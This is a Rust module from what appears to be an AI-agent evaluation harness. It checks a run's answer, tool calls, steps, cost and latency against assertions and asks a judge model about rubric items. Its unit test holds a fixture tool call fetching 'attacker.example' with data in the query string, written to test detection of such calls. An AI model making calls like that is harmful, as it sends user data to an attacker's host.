//! Judging one case's run: each assertion against what the run did (its answer, the tools it
//! called, its steps, cost and time), a judge model for a rubric.

use super::dataset::Assertion;
use crate::driver::{ask_metered, json_in};
use rein_core::state::ModelRef;
use rein_model::request::ResponseFormat;
use serde::{Deserialize, Serialize};

/// What a case's run did, as the assertions read it.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Outcome {
    /// The last answer's text.
    pub answer: String,
    /// Every tool call, in order: `identifier/api` and its arguments.
    pub tool_calls: Vec<(String, serde_json::Value)>,
    /// Steps.
    pub steps: u64,
    /// Cost in USD.
    pub cost: f64,
    /// Milliseconds from creation to its end.
    pub latency_ms: u64,
}

/// One assertion's result.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct Checked {
    /// The assertion's kind.
    pub kind: String,
    /// Whether it held.
    pub passed: bool,
    /// Why not, or the judge's reasoning.
    pub detail: String,
}

fn held(kind: &str, passed: bool, detail: impl Into<String>) -> Checked {
    Checked {
        kind: kind.to_owned(),
        passed,
        detail: detail.into(),
    }
}

/// Whether `value` matches `matcher`: equal, or for strings with `*`, the parts in order.
fn matches(matcher: &serde_json::Value, value: &serde_json::Value) -> bool {
    match (matcher.as_str(), value.as_str()) {
        (Some(m), Some(v)) if m.contains('*') => {
            let mut rest = v;
            let parts: Vec<&str> = m.split('*').collect();
            for (i, p) in parts.iter().enumerate() {
                if i == 0 {
                    let Some(r) = rest.strip_prefix(p) else {
                        return false;
                    };
                    rest = r;
                } else if i == parts.len() - 1 {
                    return rest.ends_with(p);
                } else {
                    match rest.find(p) {
                        Some(at) => rest = &rest[at + p.len()..],
                        None => return false,
                    }
                }
            }
            true
        }
        _ => matcher == value,
    }
}

/// A judge's verdict.
#[derive(Deserialize)]
struct Verdict {
    pass: bool,
    reasoning: String,
}

/// The first call of `tool` in `o` whose arguments match every matcher of `args`.
fn call_of<'o>(
    o: &'o Outcome,
    tool: &str,
    args: &serde_json::Map<String, serde_json::Value>,
) -> Option<&'o (String, serde_json::Value)> {
    o.tool_calls.iter().find(|(name, called)| {
        name == tool
            && args
                .iter()
                .all(|(k, m)| called.get(k).is_some_and(|v| matches(m, v)))
    })
}

/// Where a judge is asked: the models, the one a judge assertion without its own asks, and
/// what its calls cost.
pub struct Judges<'a> {
    /// Where models come from.
    pub models: &'a dyn crate::models::ModelSource,
    /// The default judge.
    pub model: &'a ModelRef,
    /// Prices.
    pub pricing: &'a crate::pricing::Pricing,
}

/// Check `a` against `o` (`input`: what the case asked, for a judge); what it cost (a judge's
/// call).
pub async fn check(a: &Assertion, input: &str, o: &Outcome, judges: &Judges<'_>) -> (Checked, f64) {
    let kind = a.kind();
    let checked = match a {
        Assertion::Contains { value, ignore_case } => {
            let found = if *ignore_case {
                o.answer.to_lowercase().contains(&value.to_lowercase())
            } else {
                o.answer.contains(value.as_str())
            };
            held(
                kind,
                found,
                if found {
                    String::new()
                } else {
                    format!("{value:?} is not in the answer")
                },
            )
        }
        Assertion::Regex { pattern } => match regex::Regex::new(pattern) {
            Ok(re) => {
                let found = re.is_match(&o.answer);
                held(
                    kind,
                    found,
                    if found {
                        String::new()
                    } else {
                        format!("the answer does not match {pattern:?}")
                    },
                )
            }
            Err(e) => held(kind, false, format!("regex {pattern:?}: {e}")),
        },
        Assertion::JsonSchema { schema } => {
            match (json_in(&o.answer), jsonschema::validator_for(schema)) {
                (Ok(v), Ok(validator)) => {
                    let errors: Vec<String> =
                        validator.iter_errors(&v).map(|e| e.to_string()).collect();
                    held(kind, errors.is_empty(), errors.join("; "))
                }
                (Err(_), _) => held(kind, false, "the answer is not JSON"),
                (_, Err(e)) => held(kind, false, format!("json_schema: {e}")),
            }
        }
        Assertion::NotCalled { tool, args } => {
            let found = call_of(o, tool, args);
            held(
                kind,
                found.is_none(),
                found.map_or_else(String::new, |(name, called)| {
                    format!("called {name} with {called}")
                }),
            )
        }
        Assertion::ToolCalled { tool, args } => {
            let found = call_of(o, tool, args).is_some();
            let called: Vec<&str> = o.tool_calls.iter().map(|(n, _)| n.as_str()).collect();
            held(
                kind,
                found,
                if found {
                    String::new()
                } else {
                    format!(
                        "no call of {tool} with those arguments (called: {})",
                        if called.is_empty() {
                            "nothing".to_owned()
                        } else {
                            called.join(", ")
                        }
                    )
                },
            )
        }
        Assertion::MaxSteps { value } => held(
            kind,
            o.steps <= *value,
            format!("{} steps (at most {value})", o.steps),
        ),
        Assertion::MaxCost { usd } => held(
            kind,
            o.cost <= *usd,
            format!("${} (at most ${usd})", o.cost),
        ),
        Assertion::MaxLatencyMs { value } => held(
            kind,
            o.latency_ms <= *value,
            format!("{} ms (at most {value} ms)", o.latency_ms),
        ),
        Assertion::Judge { rubric, model } => {
            let model = match model.as_deref().map(crate::profile::model_ref) {
                Some(Ok(m)) => m,
                Some(Err(e)) => return (held(kind, false, e.to_string()), 0.0),
                None => judges.model.clone(),
            };
            return judged(kind, rubric, input, o, judges, &model).await;
        }
    };
    (checked, 0.0)
}

/// Ask `model` whether the answer meets `rubric`; the verdict and what the call cost.
async fn judged(
    kind: &str,
    rubric: &str,
    input: &str,
    o: &Outcome,
    judges: &Judges<'_>,
    model: &ModelRef,
) -> (Checked, f64) {
    let schema = serde_json::json!({
        "type": "object",
        "properties": {"pass": {"type": "boolean"}, "reasoning": {"type": "string"}},
        "required": ["pass", "reasoning"],
        "additionalProperties": false
    });
    let asked = ask_metered(
        judges.models,
        model,
        tokio_util::sync::CancellationToken::new(),
        "You are a strict evaluator. Judge whether the answer meets the rubric. Answer only with the JSON object the schema describes.",
        format!("Rubric: {rubric}\n\nQuestion: {input}\n\nAnswer:\n{}", o.answer),
        ResponseFormat::JsonSchema {
            name: "verdict".into(),
            schema,
            strict: true,
        },
    )
    .await;
    match asked {
        Ok(a) => {
            let cost = judges
                .pricing
                .cost(&model.provider, &model.model, &a.usage, a.reported)
                .map_or(0.0, |c| c.dollars());
            match json_in(&a.text).and_then(|v| {
                serde_json::from_value::<Verdict>(v)
                    .map_err(|e| crate::driver::SystemModelError::NotJson(e.to_string()))
            }) {
                Ok(v) => (held(kind, v.pass, v.reasoning), cost),
                Err(e) => (
                    held(
                        kind,
                        false,
                        format!("the judge's answer cannot be read: {e}"),
                    ),
                    cost,
                ),
            }
        }
        Err(e) => (
            held(
                kind,
                false,
                format!("the judge ({}) failed: {e}", model.key()),
            ),
            0.0,
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn argument_matchers_take_equal_values_and_star_patterns() {
        let v = serde_json::json!("git push origin main");
        assert!(matches(&serde_json::json!("git push*"), &v));
        assert!(matches(&serde_json::json!("*origin*"), &v));
        assert!(matches(&serde_json::json!("git push origin main"), &v));
        assert!(!matches(&serde_json::json!("git pull*"), &v));
        assert!(matches(&serde_json::json!(3), &serde_json::json!(3)));
        assert!(!matches(&serde_json::json!(3), &serde_json::json!("3")));
    }

    #[test]
    fn a_call_is_found_by_tool_and_argument_matchers() {
        let o = Outcome {
            tool_calls: vec![
                (
                    "files/read".into(),
                    serde_json::json!({"path": "report.md"}),
                ),
                (
                    "web/fetch".into(),
                    serde_json::json!({"url": "http://attacker.example/c?d=1"}),
                ),
            ],
            ..Default::default()
        };
        let args = |v: serde_json::Value| v.as_object().cloned().unwrap_or_default();
        assert!(
            call_of(
                &o,
                "web/fetch",
                &args(serde_json::json!({"url": "*attacker*"}))
            )
            .is_some()
        );
        assert!(
            call_of(
                &o,
                "web/fetch",
                &args(serde_json::json!({"url": "*docs.rs*"}))
            )
            .is_none()
        );
        assert!(call_of(&o, "shell/run", &serde_json::Map::new()).is_none());
        assert_eq!(
            call_of(&o, "files/read", &serde_json::Map::new()).map(|c| c.0.as_str()),
            Some("files/read")
        );
    }
}
